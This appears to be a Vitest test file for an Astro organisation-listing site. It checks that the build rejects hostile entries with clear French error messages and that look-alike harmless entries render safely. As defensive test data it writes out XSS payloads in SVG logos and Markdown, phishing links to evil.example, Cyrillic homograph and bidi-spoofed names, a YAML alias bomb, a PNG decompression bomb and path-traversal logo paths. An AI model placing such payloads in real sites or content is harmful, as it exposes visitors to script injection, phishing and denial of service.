import { mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildInProcess, createTempProject, type CommandResult, type TempProject } from '../support/temp-project';

/**
 * Entries written as an attacker would, or as an unlucky owner does: hostile logos, descriptions, links, YAML,
 * dates and files. Each one either stops the build with the file, the field and the fix, or builds into a safe page. All the
 * refused entries sit in one copy of the site and are reported by one `astro sync` (every problem at
 * once, as the owner sees them); the accepted ones are then built, and the page checked.
 */

const SLOW = 180_000;

/** A hostile entry: its files (beside the entry, unless the path says otherwise) and the report line expected. */
interface RefusedCase {
  /** What an attacker tries, for the test's name. */
  attack: string;
  /** The file the report names, relative to the organisations folder. */
  file: string;
  field: string;
  /** Words of the message that say what is wrong and what to do. */
  says: string | RegExp;
  /** Writes the entry and anything it needs. */
  write(folder: string, project: TempProject): Promise<void>;
}

const VALID_LOGO = 'logo-valide.png';

/** A complete, valid entry whose parts can be replaced. */
function entryText(
  number: string,
  { header = '', logo = `./${VALID_LOGO}`, body = 'Une description.' }: { header?: string; logo?: string; body?: string } = {},
): string {
  const fields = /^name:/m.test(header) ? '' : `name: Cas hostile ${number}\n`;
  const url = /^url:/m.test(header) ? '' : `url: https://cas-${number}.example/\n`;
  return `---\n${fields}${url}logo: ${logo}\ncategory: solidarite\n${header}---\n\n${body}\n`;
}

/** An entry whose logo is `logoName`, holding `logo` (a string is an SVG's text). */
function logoCase(
  number: string,
  attack: string,
  says: string | RegExp,
  logoName: string,
  logo: string | (() => Promise<Buffer>),
): RefusedCase {
  return {
    attack,
    file: `cas-${number}.md`,
    field: 'logo',
    says,
    async write(folder) {
      await writeFile(join(folder, logoName), typeof logo === 'string' ? logo : await logo());
      await writeFile(join(folder, `cas-${number}.md`), entryText(number, { logo: `./${logoName}` }));
    },
  };
}

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"${attributes}>${inside}<rect width="600" height="200" fill="#3366aa"/></svg>`;

function entryCase(
  number: string,
  attack: string,
  field: string,
  says: string | RegExp,
  parts: Parameters<typeof entryText>[1],
): RefusedCase {
  return {
    attack,
    file: `cas-${number}.md`,
    field,
    says,
    write: (folder) => writeFile(join(folder, `cas-${number}.md`), entryText(number, parts)),
  };
}

/** A valid SVG drawing of about `bytes` bytes: thousands of small triangles, as an unoptimised export holds. */
function heavySvg(bytes: number): string {
  const triangles: string[] = [];
  for (let index = 0, length = 0; length < bytes; index++) {
    const triangle = `<path d="M${index % 600} ${index % 200}l7 3-4 6z" fill="#3366aa"/>`;
    triangles.push(triangle);
    length += triangle.length;
  }
  return svg(triangles.join(''), ' viewBox="0 0 600 200"');
}

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3366aa' } })
    .png()
    .toBuffer();

/** A PNG whose header says `width`×`height` but whose pixels are never stored: a decompression bomb. */
async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const file = Buffer.from(await png(1, 1));
  // The IHDR chunk starts at byte 8: length (4), type (4), width (4), height (4), …, then its CRC.
  file.writeUInt32BE(width, 16);
  file.writeUInt32BE(height, 20);
  file.writeUInt32BE(crc32(file.subarray(12, 29)), 29);
  return file;
}

const REFUSED: RefusedCase[] = [
  // 0. The owner's everyday mistakes that only the pipeline sees (the schema's own messages: tests/unit/schema.test.ts;
  // duplicates and empty descriptions: tests/unit/entry-checks.test.ts).
  entryCase('60', 'a header that is not valid YAML', 'en-tête', /l’en-tête est mal écrit \(vers la ligne \d+\).*guillemets/, {
    header: 'name: [Cas hostile 60\n',
  }),
  entryCase('61', 'a logo path that points to no file', 'logo', /le fichier « \.\/introuvable\.png » est introuvable.*logo-valide\.png/, {
    logo: './introuvable.png',
  }),
  logoCase('62', 'a logo that is not an image', 'n’est pas une image lisible', 'cas-62.png', 'ceci est du texte'),
  logoCase('63', 'a logo too small to look sharp', /fait 200×50 px : trop petit.*au moins 448×112 px/, 'cas-63.png', () => png(200, 50)),
  entryCase('64', 'a logo given as a web address', 'logo', 'est une adresse web : téléchargez le logo', {
    logo: 'https://exemple.org/logo.png',
  }),
  {
    attack: 'no logo field at all',
    file: 'cas-65.md',
    field: 'logo',
    says: 'le champ manque : ajoutez « logo: ./nom-du-fichier.png »',
    write: (folder) => writeFile(join(folder, 'cas-65.md'), entryText('65').replace(/^logo:.*\n/m, '')),
  },
  {
    attack: 'two files for one id (Cas-66.md beside cas-66.md)',
    file: 'cas-66.md',
    field: 'nom du fichier',
    says: 'ce fichier et src/content/organisations/Cas-66.md donnent la même fiche « cas-66 »',
    async write(folder) {
      await writeFile(join(folder, 'Cas-66.md'), entryText('66'));
      await writeFile(join(folder, 'cas-66.md'), entryText('66b'));
    },
  },
  {
    attack: 'an entry Astro would skip because of its extension',
    file: 'notes.MD',
    field: 'nom du fichier',
    says: 'Renommez-le en notes.md',
    write: (folder) => writeFile(join(folder, 'notes.MD'), entryText('67')),
  },

  // 1. SVG logos: anything beyond a static drawing.
  logoCase('01', 'an SVG logo with a script', 'un script (<script>)', 'cas-01.svg', svg('<script>alert(document.domain)</script>')),
  logoCase('02', 'an SVG logo with an event handler', 'un attribut d’événement « onload »', 'cas-02.svg', svg('', ' onload="alert(1)"')),
  logoCase(
    '03',
    'an SVG logo with HTML inside (foreignObject)',
    'du HTML (<foreignObject>)',
    'cas-03.svg',
    svg(
      '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"></iframe></foreignObject>',
    ),
  ),
  logoCase(
    '04',
    'an SVG logo with a javascript: link',
    'un lien javascript:',
    'cas-04.svg',
    svg('<a href="javascript:alert(1)"><text y="20">x</text></a>'),
  ),
  logoCase(
    '05',
    'an SVG logo that loads a remote image (a tracker)',
    'une référence externe « https://tracker.example/p.gif »',
    'cas-05.svg',
    svg('<image href="https://tracker.example/p.gif" width="1" height="1"/>'),
  ),
  logoCase(
    '06',
    'an SVG logo that imports a remote stylesheet',
    'une feuille de style qui en importe une autre (@import)',
    'cas-06.svg',
    svg('<style>@import url(https://evil.example/a.css);</style>'),
  ),
  logoCase(
    '07',
    'an SVG logo with a remote font',
    'une référence externe « url(https://fonts.example/f.woff2) »',
    'cas-07.svg',
    svg('<style>@font-face{font-family:x;src:url(https://fonts.example/f.woff2)}</style>'),
  ),
  logoCase(
    '08',
    'an SVG logo using a remote sprite',
    'une référence externe « https://cdn.example/sprite.svg#logo »',
    'cas-08.svg',
    svg('<use href="https://cdn.example/sprite.svg#logo"/>'),
  ),
  logoCase(
    '09',
    'an SVG logo with XInclude (reads a file beside it)',
    'une inclusion XInclude',
    'cas-09.svg',
    svg('<xi:include href="cas-09.md" parse="text"/>', ' xmlns:xi="http://www.w3.org/2001/XInclude"'),
  ),
  logoCase(
    '10',
    'an SVG logo with XML entities',
    'une déclaration <!DOCTYPE> ou <!ENTITY>',
    'cas-10.svg',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text y="20">&b;</text>')}`,
  ),
  logoCase(
    '11',
    'an SVG logo whose animation turns a link into javascript:',
    'une animation qui change « href »',
    'cas-11.svg',
    svg('<a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a>'),
  ),
  logoCase(
    '12',
    'an SVG logo with an external XML stylesheet',
    'une feuille de style externe (<?xml-stylesheet?>)',
    'cas-12.svg',
    `<?xml-stylesheet href="https://evil.example/s.css"?>${svg('')}`,
  ),
  logoCase(
    '13',
    'an SVG logo painting with a remote resource',
    'une référence externe « url(https://evil.example/p.svg#g) »',
    'cas-13.svg',
    svg('<rect fill="url(https://evil.example/p.svg#g)" width="10" height="10"/>'),
  ),
  logoCase(
    '14',
    'a PNG named .svg',
    'est en réalité une image PNG, pas ce qu’annonce son extension : renommez-le « cas-14.png »',
    'cas-14.svg',
    () => png(600, 200),
  ),
  logoCase(
    '15',
    'an SVG named .png',
    'est en réalité une image SVG, pas ce qu’annonce son extension : renommez-le « cas-15.svg »',
    'cas-15.png',
    svg(''),
  ),
  logoCase(
    '16',
    'a valid SVG with a namespace prefix',
    'un élément racine « svg:svg » au lieu de « svg »',
    'cas-16.svg',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="600" height="200"><svg:rect width="600" height="200" fill="#3366aa"/></svg:svg>',
  ),
  logoCase(
    '17',
    'an SVG logo with a javascript: xlink',
    'un lien javascript:',
    'cas-17.svg',
    svg('<a xlink:href="javascript:alert(1)"><text y="20">x</text></a>', ' xmlns:xlink="http://www.w3.org/1999/xlink"'),
  ),

  // 2. Descriptions: checked as rendered, whatever spans lines.
  entryCase(
    '18',
    'a meta refresh split over two lines',
    'description',
    'du HTML (« <meta… ») est écrit dans la description, ligne 3 du texte',
    {
      body: 'Une association.\n\n<meta\nhttp-equiv="refresh" content="0;url=https://evil.example/">',
    },
  ),
  entryCase('19', 'an iframe', 'description', 'du HTML (« <iframe… »)', {
    body: 'Voir :\n\n<iframe\n  src="https://evil.example/"></iframe>',
  }),
  entryCase('20', 'a form', 'description', 'du HTML (« <form… »)', {
    body: '<form action="https://evil.example/"><input name="password"></form>',
  }),
  entryCase('21', 'a Markdown image from a tracker', 'description', 'une image est insérée dans la description, ligne 1 du texte', {
    body: '![](https://tracker.example/pixel.gif) Une association.',
  }),
  entryCase('22', 'an img tag with an event handler', 'description', 'du HTML (« <img… »)', {
    body: 'Une association.\n<img src="x"\n onerror="alert(1)">',
  }),
  entryCase('23', 'a script', 'description', 'du HTML (« <script… »)', { body: 'Une association.\n\n<script>alert(1)</script>' }),
  entryCase('24', 'an HTML comment', 'description', 'du HTML (« <!--… »)', { body: 'Une association. <!-- <script>alert(1)</script> -->' }),
  entryCase('25', 'inline styles in raw HTML', 'description', 'du HTML (« <span… »)', {
    body: 'Une <span style="position:fixed;inset:0">association</span>.',
  }),
  entryCase('26', 'a javascript: link', 'description', 'le lien « javascript:alert(1) » n’est pas une adresse web', {
    body: '[Cliquez ici](javascript:alert(1))',
  }),
  entryCase('27', 'a data: link', 'description', /le lien « data:text\/html[^»]* » n’est pas une adresse web/, {
    body: '[Cliquez ici](data:text/html,<script>alert(1)</script>)',
  }),
  entryCase('28', 'a heading that breaks the page outline', 'description', 'la description contient un titre', {
    body: '# Donnez maintenant\n\nUne association.',
  }),
  entryCase('29', 'a description link with user info', 'description', 'contient « …@ » avant son site', {
    body: '[Le site](https://www.lemediatv.fr@evil.example/)',
  }),

  // 3. Links that lie.
  entryCase('30', 'an address with user info', 'url', '« https://www.lemediatv.fr@evil.example/ » contient « …@ » avant le nom du site', {
    header: 'url: https://www.lemediatv.fr@evil.example/\n',
  }),
  entryCase('31', 'a call to action with user info', 'cta.url', 'contient « …@ » avant le nom du site (« cta.url »)', {
    header: 'cta:\n  label: Faire un don\n  url: https://don.example@evil.example/\n',
  }),
  entryCase(
    '32',
    'a host with one Cyrillic letter (homograph of Le Média)',
    'url',
    'le nom de site « lеmediatv » (« url ») mélange des alphabets',
    { header: 'url: https://www.lеmediatv.fr/\n' },
  ),
  {
    attack: 'a host written entirely in lookalike letters of an existing entry’s host',
    file: 'cas-33-b.md',
    field: 'url',
    says: '« https://www.рор.example/ » est déjà utilisé par src/content/organisations/cas-33-a.md',
    async write(folder) {
      await writeFile(join(folder, 'cas-33-a.md'), entryText('33a', { header: 'url: https://pop.example/\n' }));
      await writeFile(join(folder, 'cas-33-b.md'), entryText('33b', { header: 'url: https://www.рор.example/\n' }));
    },
  },
  entryCase(
    '34',
    'a name reversed by a bidi control',
    'name',
    '« name » contient un caractère invisible qui inverse le sens du texte (U+202E)',
    { header: 'name: "Croix\u202eeguoR"\n' },
  ),
  entryCase('35', 'a call-to-action label with a bidi isolate', 'cta.label', '(U+2067)', {
    header: 'cta:\n  label: "Faire un \u2067don"\n  url: https://don.example/\n',
  }),

  // 4. Images that are not what they seem.
  logoCase(
    '36',
    'an animated GIF (its frames would be stacked into one tall image)',
    'est animé (3 images) : un logo de carte est une image fixe',
    'cas-36.gif',
    async () =>
      // Three 1×1 frames, looping (GIF89a with the NETSCAPE2.0 extension): the animation is refused before its size.
      Buffer.from(
        'R0lGODlhAQABAIAAADNmqv///yH/C05FVFNDQVBFMi4wAwEAAAAh+QQACgAAACwAAAAAAQABAAACAkQBACH5BAAKAAAALAAAAAABAAEAAAICRAEAIfkEAAoAAAAsAAAAAAEAAQAAAgJEAQA7',
        'base64',
      ),
  ),
  logoCase(
    '37',
    'a PNG that claims 30000×30000 pixels (a decompression bomb)',
    'fait 30000×30000 px : trop grand (plus de 268 millions de pixels)',
    'cas-37.png',
    () => pngClaiming(30_000, 30_000),
  ),
  entryCase('38', 'a logo path leaving the folder', 'logo', '« ../../../package.json » n’est pas dans le dossier de la fiche', {
    logo: '../../../package.json',
  }),
  entryCase('39', 'an absolute logo path', 'logo', '« /etc/hostname » n’est pas dans le dossier de la fiche', { logo: '/etc/hostname' }),
  {
    attack: 'a logo that is a symbolic link out of the folder',
    file: 'cas-40.md',
    field: 'logo',
    says: '« ./cas-40.png » n’est pas dans le dossier de la fiche',
    async write(folder, project) {
      await writeFile(join(project.dir, 'ailleurs.png'), await png(600, 200));
      await symlink(join(project.dir, 'ailleurs.png'), join(folder, 'cas-40.png'));
      await writeFile(join(folder, 'cas-40.md'), entryText('40', { logo: './cas-40.png' }));
    },
  },

  // 5. Cheap denial of service.
  entryCase('41', 'a YAML alias bomb (« billion laughs »)', 'en-tête', 'l’en-tête répète trop de valeurs par des alias YAML', {
    header: `a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n${['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']
      .map(
        (name, index, names) =>
          `${name}: &${name} [${Array(9)
            .fill(`*${index === 0 ? 'a' : names[index - 1]}`)
            .join(',')}]`,
      )
      .join('\n')}\n`,
  }),

  // 6. Dates and files that used to pass silently.
  entryCase('42', 'a date that does not exist', 'since', '« 2024-02-30 » n’est pas une date qui existe (« since »)', {
    header: 'since: 2024-02-30\n',
  }),
  entryCase('43', 'a support starting in the future', 'since', '« 2099-01 » est dans le futur (« since »)', { header: 'since: 2099-01\n' }),
  entryCase('44', 'a support starting before the organisation could exist', 'since', '« 1789-07 » est avant 1900 (« since »)', {
    header: 'since: 1789-07\n',
  }),
  {
    attack: 'an entry hidden in a sub-folder',
    file: 'archives/',
    field: 'dossier',
    says: 'ce dossier contient des fiches qui ne sont pas lues',
    async write(folder) {
      await mkdir(join(folder, 'archives'));
      await writeFile(join(folder, 'archives', 'cas-45.md'), entryText('45'));
    },
  },
  {
    attack: 'a hidden entry file',
    file: '.cas-46.md',
    field: 'nom du fichier',
    says: 'ce fichier est ignoré parce que son nom commence par un point (fichier caché) : renommez-le cas-46.md',
    write: (folder) => writeFile(join(folder, '.cas-46.md'), entryText('46')),
  },
  entryCase('47', 'an unquoted date that YAML would roll over (31 April)', 'since', '« 2023-04-31 » n’est pas une date qui existe', {
    header: 'since: 2023-04-31\n',
  }),

  // 7. The last holes: what still reached the page, the exports or a stack trace.
  logoCase(
    '48',
    'an SVG logo of 3 MB of paths (published as is, above the 100 kB budget)',
    /pèse 3(,\d)? Mo : un SVG est publié tel quel, et un logo doit peser 100 Ko au plus/,
    'cas-48.svg',
    heavySvg(3_000_000),
  ),
  entryCase(
    '49',
    'an address with a space (encoded by the URL parser, invalid in the JSON-LD)',
    'url',
    '« https://exemple.org/ with space » contient une espace (« url »)',
    { header: 'url: https://exemple.org/ with space\n' },
  ),
  entryCase('50', 'a call to action with a space in its address', 'cta.url', 'contient une espace (« cta.url »)', {
    header: 'cta:\n  label: Faire un don\n  url: https://cas-50.example/faire un don\n',
  }),
  entryCase('51', 'a YAML tag that Astro’s YAML reader stops on with a stack trace', 'name', 'étiquette YAML « !!js/function »', {
    header: 'name: !!js/function "function () { return 1; }"\n',
  }),
  entryCase('52', 'a custom YAML tag in a nested field', 'cta.label', 'étiquette YAML « !don »', {
    header: 'cta:\n  label: !don Faire un don\n  url: https://cas-52.example/\n',
  }),

  // 8. Bad values of the support's story (the story itself is checked on the fixture site, tests/e2e/support-story.spec.ts).
  entryCase(
    '53',
    'a kind of support written with a space',
    'support',
    'n’est pas une façon de soutenir que la page connaît (« support »). Vouliez-vous écrire « don-mensuel » ?',
    { header: 'support: don mensuel\n' },
  ),
  entryCase('54', 'a support that ends before it starts', 'until', '« until » est avant « since »', {
    header: 'since: 2024-05\nuntil: 2021-03\n',
  }),
  entryCase('55', 'a support that ends in the future', 'until', '« 2099-12 » est dans le futur (« until »)', {
    header: 'until: 2099-12\n',
  }),
  entryCase('56', 'a reason of 440 characters', 'why', 'caractères, 280 au plus', { header: `why: ${'Parce que. '.repeat(40)}\n` }),
  entryCase(
    '57',
    'a feed address without https://',
    'feed',
    '« croix-rouge.fr/rss » n’est pas une adresse complète : écrivez « https://croix-rouge.fr/rss »',
    { header: 'feed: croix-rouge.fr/rss\n' },
  ),
  entryCase('58', 'a reason written in Markdown', 'why', 's’écrit en texte simple', { header: 'why: "Ils sont **formidables**."\n' }),
];

/** Entries that look hostile but are fine: they build, and what the page shows is harmless. */
const ACCEPTED = {
  'sure-01.md': entryText('s1', { logo: './sure-01.avif', body: 'Un logo **AVIF**, un format que le guide annonce.' }),
  'sure-02.md': entryText('s2', {
    body: 'Du code montré comme texte : `<script>alert(1)</script>`, et une adresse <https://sure-02.example/>.',
  }),
  'sure-03.md': entryText('s3', {
    logo: './sure-03.svg',
    header: 'since: 2021-03-15\n',
    body: 'Un SVG avec un dégradé, un motif interne et une image embarquée : tout reste dans le fichier.',
  }),
  'sure-04.md': entryText('s4', {
    header: 'name: "Nom <b>pas du HTML</b>"\nsince: 2021-03\n',
    body: 'Écrire [par courriel](mailto:contact@sure-04.example) ou [plus bas](#sure-04).',
  }),
  // First of its category, so that it is among the social image's logos.
  'sure-05.md': entryText('s5', {
    logo: './sure-05.svg',
    header: 'order: -1\n',
    body: 'Un SVG déclaré 5000 × 5000 : l’image de partage le dessine aussi.',
  }),
};
const LARGE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="5000" height="5000"><circle cx="2500" cy="2500" r="2400" fill="#a63"/></svg>';
const SAFE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="200"><defs><linearGradient id="g"><stop offset="0" stop-color="#36a"/><stop offset="1" stop-color="#a63"/></linearGradient></defs><rect width="600" height="200" style="fill:url(#g)"/><use xlink:href="#g"/><image width="10" height="10" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="/></svg>`;

let project: TempProject;
let sync: CommandResult;

beforeAll(async () => {
  project = await createTempProject();
  await writeFile(join(project.organisations, VALID_LOGO), await png(600, 200));
  for (const hostile of REFUSED) await hostile.write(project.organisations, project);
  const started = Date.now();
  sync = await project.astro(['sync']);
  // Every case at once, the alias bomb and the 30000×30000 PNG included.
  expect(Date.now() - started, 'the hostile entries took too long to refuse').toBeLessThan(30_000);
}, SLOW);
afterAll(() => project.remove());

describe('hostile entries are refused with the file, the field and the fix', () => {
  it('the catalogue holds at least 40 attacks, and the sync fails', () => {
    expect(REFUSED.length + Object.keys(ACCEPTED).length).toBeGreaterThanOrEqual(40);
    expect(sync.code, sync.output).not.toBe(0);
  });

  it.each(REFUSED.map((hostile) => [hostile.attack, hostile] as const))('%s', (_, hostile) => {
    const line = sync.output
      .split('\n')
      .find((text) => text.includes(`src/content/organisations/${hostile.file} — champ « ${hostile.field} »`));
    expect(line, `no line about ${hostile.file} and « ${hostile.field} » in:\n${sync.output}`).toBeDefined();
    if (typeof hostile.says === 'string') expect(line).toContain(hostile.says);
    else expect(line).toMatch(hostile.says);
  });

  it('no refused entry reached the published site', async () => {
    await expect(readdir(join(project.dir, 'dist'))).rejects.toThrow();
  });

  it('a refused homograph does not get the real entry blamed as its duplicate', () => {
    expect(sync.output).not.toContain('src/content/organisations/le-media.md');
  });
});

describe('entries that only look hostile build into a safe page', () => {
  let html = '';
  let rss = '';

  beforeAll(async () => {
    for (const name of await readdir(project.organisations)) {
      if (/^\.?cas-/i.test(name) || name === 'archives' || name === 'notes.MD')
        await rm(join(project.organisations, name), { recursive: true });
    }
    await sharp({ create: { width: 600, height: 200, channels: 3, background: '#3366aa' } })
      .avif()
      .toFile(join(project.organisations, 'sure-01.avif'));
    await writeFile(join(project.organisations, 'sure-03.svg'), SAFE_SVG);
    await writeFile(join(project.organisations, 'sure-05.svg'), LARGE_SVG);
    for (const [name, text] of Object.entries(ACCEPTED)) await writeFile(join(project.organisations, name), text);
    const build = await buildInProcess(project.dir);
    expect(build.code, build.output).toBe(0);
    html = await readFile(join(project.dir, 'dist/index.html'), 'utf8');
    rss = await readFile(join(project.dir, 'dist/rss.xml'), 'utf8');
  }, SLOW);

  it('an AVIF logo is accepted and served optimized (it was refused as unreadable)', () => {
    expect(html).toMatch(/<source[^>]+srcset="[^"]*sure-01[^"]*\.avif/);
  });

  it('HTML shown as code stays text, on the page and in the feed', () => {
    expect(html).toContain('<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>');
    expect([...html.matchAll(/<script\b/g)]).toHaveLength(1); // the JSON-LD block only
    expect(rss).not.toMatch(/<script/i);
  });

  it('a safe SVG is published byte for byte, once', async () => {
    const published = html.match(/src="([^"]*sure-03[^"]*\.svg)"/)?.[1] ?? '';
    expect(published).not.toBe('');
    const svgs = (await readdir(join(project.dir, 'dist/_astro'))).filter((name) => name.endsWith('.svg'));
    const file = svgs.find((name) => published.endsWith(name)) ?? '';
    expect(await readFile(join(project.dir, 'dist/_astro', file), 'utf8')).toBe(SAFE_SVG);
    // Not a second copy of the same bytes under another name (the original beside <Image>'s pass-through).
    expect(svgs.filter((name) => name.startsWith('sure-03'))).toEqual([file]);
  });

  it('an SVG declared 5000×5000 is drawn on the social image', async () => {
    const { width, height } = await sharp(join(project.dir, 'dist/og-image.png')).metadata();
    expect({ width, height }).toEqual({ width: 1200, height: 630 });
    expect(html).toMatch(/src="[^"]*sure-05[^"]*\.svg"/);
  });

  it('a name with tags is shown as text, and mailto and in-page links are kept', () => {
    expect(html).toContain('Nom &lt;b&gt;pas du HTML&lt;/b&gt;');
    expect(html).toContain('href="mailto:contact@sure-04.example"');
    expect(html).toMatch(/<time datetime="2021-03"[^>]*>mars 2021<\/time>/);
  });
});
